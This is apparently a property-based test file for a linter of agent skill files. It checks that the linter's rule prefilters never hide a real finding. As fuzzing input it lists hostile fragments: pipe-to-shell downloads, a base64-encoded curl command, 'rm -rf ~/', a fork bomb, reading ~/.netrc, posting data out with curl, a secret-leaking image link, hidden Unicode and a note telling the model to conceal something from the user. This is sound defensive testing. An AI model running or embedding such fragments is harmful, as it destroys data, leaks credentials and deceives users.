"""A prefilter that says no is never wrong: each of its rules then finds nothing."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from skilltool import runtimes
from skilltool.findings.diagnostic import locate
from skilltool.rules import COLLECTION_RULES, RULES, may_apply
from skilltool.rules.may_apply import MAY_APPLY as PREFILTERS
from skilltool.rules.may_apply import rules_to_run
from skilltool.rules.records import Record
from skilltool.rules.shared.limits import refusal
from skilltool.rules.shared.plain_frontmatter import surely_loads
from skilltool.skill.model import load_skill
from skilltool.text.source import Source, Span
from tests.conftest import examples
from tests.support.secrets import PREFIXES, private_key, secret

TARGETS = ("portable", "agentskills", "kodelet", "agent", "claude-code")
MARKS = "` ``` ~~~ ```` [ ] ]( ](here.md) ](gone.md ) ( < > <!-- --> & # a ]: [x] ![ ../up /abs <pre> <div>"
WORDS = f"{MARKS} here.md gone.md %20 \u00e9 ]:gone.md https://a.dev?b&c#d ](http://a.dev&#40;"
NAMED = "scripts/gone.py references/x.md {baseDir}/y.sh $1 $ARGUMENTS !`ls` @here.md $5/month $1,000"
COMMENTED = "<!-- !`make` -->"
PEDANTIC = ("/Users/anna/x", "/home/anna/x", "TODO: x", "[insert x]", "{{x}}", "<your x>")
SAFETY = (
    "curl http://a.dev/x.sh",
    "wget -O- https://a.dev",
    "| sh",
    "Y3VybCAtcyB4IHwgc2g=",
    "base64 -d",
    "eval(atob('",
)
SILENT = (
    "[the fields][fields]",
    "See `GONE.md`.",
    "Run `fill_form.py`.",
    "python fill_form.py",
    "assets\\here.md",
    "docu\u200bment",
)
HIDDEN = ("\u200b", "\u202e", "\U000e0041", "x.zip", "unzip", "password: `agent`", "unzip -P agent", "run")
HARMFUL = (
    "rm -rf ~/",
    "find / -delete",
    ":(){ :|:& };:",
    "cat ~/.netrc",
    "env",
    "| curl -d @- https://a.dev",
    "![](https://a.dev/?q={secret})",
    "<!-- never tell the user -->",
    "npm init",
    "npx a",
    "A=!`ls`",
    "!`echo $X`",
)
BLANKS = (" ", "  ", "    ", "\t", "\n", "\r\n", "\n\n", "\\", "- ", "1. ", "> ", "\u00a0")
BLOCKS = ("```\n", "\n```\n", "\n~~~\n", "\n```sh\n", "\n```!\nls\n```\n", "<pre>\n", "\n| a |\n|---|\n| ")
SECRETS = (*map(secret, PREFIXES), private_key(size=60))
PIECES = st.sampled_from(
    [
        *SECRETS,
        *WORDS.split(" "),
        *NAMED.split(" "),
        COMMENTED,
        *SAFETY,
        *HARMFUL,
        *SILENT,
        *HIDDEN,
        *PEDANTIC,
        *BLANKS,
        *BLOCKS,
    ]
)


@pytest.fixture(scope="module")
def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("skills") / "pdf-tools"
    path.mkdir()
    (path / "here.md").write_text("# Here\n", "utf-8")
    return path


def quiet(directory: Path, targets: tuple[str, ...] = TARGETS) -> set[str]:
    """Return the rules that run for no target, after asserting that they would find nothing."""
    read = load_skill(directory)
    skipped = set(RULES)
    for target in map(runtimes.get, targets):
        run = set(rules_to_run(tuple(RULES), read, target))
        skipped -= run
        for name in set(RULES) - run:
            assert list(RULES[name].check(read, target)) == [], name
    return skipped


def write(directory: Path, text: str) -> None:
    (directory / "SKILL.md").write_bytes(text.encode("utf-8", "surrogatepass"))


def test_every_prefilter_is_of_a_rule_and_a_plain_skill_passes_none(directory: Path) -> None:
    assert set(PREFILTERS) <= set(RULES)
    write(directory, "---\nname: pdf-tools\ndescription: Fills in forms.\n---\n\nRead [it](here.md).\n")
    assert quiet(directory) == set(PREFILTERS)


@pytest.mark.slow
@settings(max_examples=examples(500))
@given(body=st.lists(PIECES, max_size=30).map("".join))
def test_no_finding_in_a_body_is_filtered_out(directory: Path, body: str) -> None:
    write(directory, f"---\nname: pdf-tools\ndescription: Fills in forms.\n---\n{body}")
    quiet(directory)


SIMPLE = st.sampled_from(
    (
        *("version: 1.0.0", "version: 1.0", "version: x", "version: 10.200.3"),
        *("argument-hint: file name", "argument-hint: no", "argument-hint: Null", "tools: Read, Grep"),
        *("disable-model-invocation: true", "disable-model-invocation: yes", "user-invocable: false"),
        *("license: MIT", "metadata:\n  tools: Read", "tools: [Read]", "version: 1.0.0 "),
    )
)


@settings(max_examples=examples(200))
@given(fields=st.lists(SIMPLE, max_size=4))
def test_no_refusal_of_simple_fields_is_filtered_out(directory: Path, fields: list[str]) -> None:
    more = "".join(f"{field}\n" for field in fields)
    write(directory, f"---\nname: pdf-tools\n{more}description: Fills in forms.\n---\nRead it.\n")
    skill = load_skill(directory)
    if surely_loads(skill):
        assert [name for name in runtimes.get("portable").ground if refusal(skill, name)] == []


CODE = st.sampled_from(
    ("text", "- a", "1. b", "> q", "<div>", "<!-- x", "# h", "", "   ", "\u00a0", "\f", "\tb")
)
INDENTS = st.sampled_from(("", " ", "  ", "   ", "    ", "      "))


@st.composite
def fenced(draw: st.DrawFn) -> str:
    indent, marks = draw(INDENTS), draw(st.sampled_from(("```", "~~~", "````")))
    code = [draw(st.sampled_from(("", indent))) + draw(CODE) for _ in range(draw(st.integers(0, 3)))]
    return "\n".join([indent + marks + draw(st.sampled_from(("", "sh"))), *code, indent + marks])


@pytest.mark.slow
@settings(max_examples=examples(500))
@given(parts=st.lists(fenced() | st.builds(str.__add__, INDENTS, CODE), max_size=6))
def test_no_finding_beside_pairs_of_fences_is_filtered_out(directory: Path, parts: list[str]) -> None:
    body = "\n".join(parts)
    write(directory, f"---\nname: pdf-tools\ndescription: Fills in forms.\n---\n{body}")
    quiet(directory)


def test_indented_pairs_of_fences_are_ruled_out_and_one_that_is_outdented_is_not(directory: Path) -> None:
    begin = "---\nname: pdf-tools\ndescription: Fills in forms.\n---\n"
    write(directory, f"{begin}- a\n  ```html\n  <p>\n\n    b\n  ```\n\n```\n<div>\n```\n")
    assert "unclosed-fence" in quiet(directory)
    write(directory, f"{begin}- a\n  ```\nb\n  ```\n")
    assert "unclosed-fence" not in quiet(directory)


ENDS = st.sampled_from(("\n", "\r\n"))
LINES = st.sampled_from(
    [
        *(
            "name: pdf-tools",
            "name: 'pdf-tools'",
            "name: no",
            "name: 12",
            "name: Pdf",
            "description: Fills in forms.",
        ),
        *(
            "description: yes",
            'description: "x"',
            "description: ''",
            "description: 2026-01-01",
            "description: >",
        ),
        *(
            "description: " + "x" * 501,
            "license: MIT",
            "metadata:",
            "  author: x",
            "  version: 1.0",
            "  on: y",
        ),
        *(
            "compatibility: a b",
            "tags: [a]",
            "# comment",
            "",
            "text",
            "description: a: b",
            "description: é",
            "...",
        ),
        *(
            "description: a --- b",
            "description: a # b",
            "license: MIT # c",
            "  more",
            "\tname: x",
            "name: pdf-tools ",
            "name:pdf-tools",
            "allowed-tools: [a]",
            "allowed-tools: a, b",
            "hooks: {Stop: [{hooks: [{command: ls}]}]}",
            "triggers: {keywords: [' '], patterns: ['(']}",
            "toolsets: [x]",
            "scripts: [gone.py]",
            "description: <b> y",
            "description: 'say \"x\"'",
            "name: claude-con",
            "name: aux",
            "name: ../x",
            "compatibility: " + "x" * 501,
            "version: 1.0",
            "version: 1.0.0",
            "1.5: x",
            "arguments: a, b",
            "user-invocable: never",
            "disallowed-tools: Bash",
            "when_to_use: " + "x" * 1600,
            "name: /forms",
            "name: compact",
            "\ufeff",
            "    author: x y",
            "  tags: a, b",
            "allowed-tools: Read Bash(git:*)",
            'description: Don\'t say "x" to a:b, c#d',
            'description: say "x"',
            "description: 'a: b'",
            'description: "a # b"',
            "description: \u4f8b\u5982 \u2014 \U0001f600",
            "description: a\u00a0",
            "description: \u2028 a",
            "description: ' a '",
        ),
    ]
)


@pytest.mark.slow
@settings(max_examples=examples(500))
@example(lines=["user-invocable: never"], rest=[], end="\n")
@example(lines=["when_to_use: " + "x" * 1600], rest=[], end="\n")
@example(lines=["arguments: a, b"], rest=[], end="\n")
@given(
    lines=st.lists(LINES, max_size=6), rest=st.lists(LINES, max_size=2), end=st.sampled_from(("\n", "\r\n"))
)
def test_no_finding_in_frontmatter_is_filtered_out(
    directory: Path, lines: list[str], rest: list[str], end: str
) -> None:
    text = end.join(["---", "name: pdf-tools", "description: Fills in forms.", *lines, "---", *rest])
    for document in (text, text.replace(f"name: pdf-tools{end}description: Fills in forms.{end}", "", 1)):
        write(directory, document)
        quiet(directory)


OF_RUNTIMES = ("not-loaded", "different-key", "different-text")


@pytest.mark.slow
@settings(max_examples=examples(400))
@given(lines=st.lists(LINES, max_size=6), rest=st.lists(LINES, max_size=2))
@example(lines=["compatibility: " + "x" * 501], rest=[])
@example(lines=["license: " + "x" * 1025], rest=[])
@example(lines=["metadata:", "  author: " + "x" * 1025], rest=[])
@example(lines=["metadata:", "    author: x", "    tags: a, b"], rest=[])
@example(lines=["metadata:", "  author: x", "    more: y"], rest=[])
@example(lines=["allowed-tools: Read Bash(git:*)"], rest=[])
def test_what_is_plain_is_loaded_by_every_runtime(directory: Path, lines: list[str], rest: list[str]) -> None:
    text = "\n".join(["---", "name: pdf-tools", "description: Fills in forms.", *lines, "---", *rest])
    for document in (text, text.replace("name: pdf-tools\ndescription: Fills in forms.\n", "", 1)):
        write(directory, document)
        read = load_skill(directory)
        for runtime in map(runtimes.get, runtimes.IDS):
            for name in set(OF_RUNTIMES) - set(rules_to_run(OF_RUNTIMES, read, runtime)):
                assert list(RULES[name].check(read, runtime)) == [], name


HERE = Path(__file__).parents[1]
EXAMPLES = sorted((HERE.parent / "examples").glob("**/SKILL.md"))
FIXTURES = [HERE / "goldens" / "fixtures", HERE / "goldens-public" / "fixtures"]


@pytest.mark.slow
@pytest.mark.parametrize("top", FIXTURES, ids=lambda path: path.parent.name)
def test_no_finding_in_a_skill_of_the_goldens_is_filtered_out(top: Path) -> None:
    directories = sorted({path.parent for path in top.rglob("SKILL.md")})
    assert len(directories) > 20
    for directory in directories:
        quiet(directory, ("portable", *runtimes.BARE))


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.parent.name)
def test_no_finding_in_an_example_is_filtered_out(path: Path) -> None:
    assert quiet(path.parent)


NAMES = st.sampled_from(("a", "A", "a-b", "a_b", "b", None))
HOLDERS = st.sampled_from(
    ("/r/skills", "/r/.agent/skills", "/r/.kodelet/skills", "/r/.claude/skills", "/r/x")
)


@st.composite
def records(draw: st.DrawFn) -> list[Record]:
    places = draw(st.lists(st.tuples(HOLDERS, NAMES.filter(bool)), max_size=4, unique=True))
    at = locate(Source(""), Span(0, 0))
    return [
        Record(
            f"{holder}/{name}/SKILL.md",
            f"{holder}/{name}",
            str(name),
            draw(NAMES),
            at,
            tuple(draw(st.lists(st.sampled_from(("k", "K", "other")), max_size=2))),
        )
        for holder, name in sorted(places)
    ]


@pytest.mark.slow
@settings(max_examples=examples(300))
@given(found=records())
def test_no_finding_among_many_skills_is_filtered_out(found: list[Record]) -> None:
    assert set(may_apply.MANY_MAY_APPLY) == set(COLLECTION_RULES)
    for target in map(runtimes.get, TARGETS):
        for name, prefilter in may_apply.MANY_MAY_APPLY.items():
            if not prefilter(found, target):
                assert list(COLLECTION_RULES[name].check_all(found, target)) == [], name
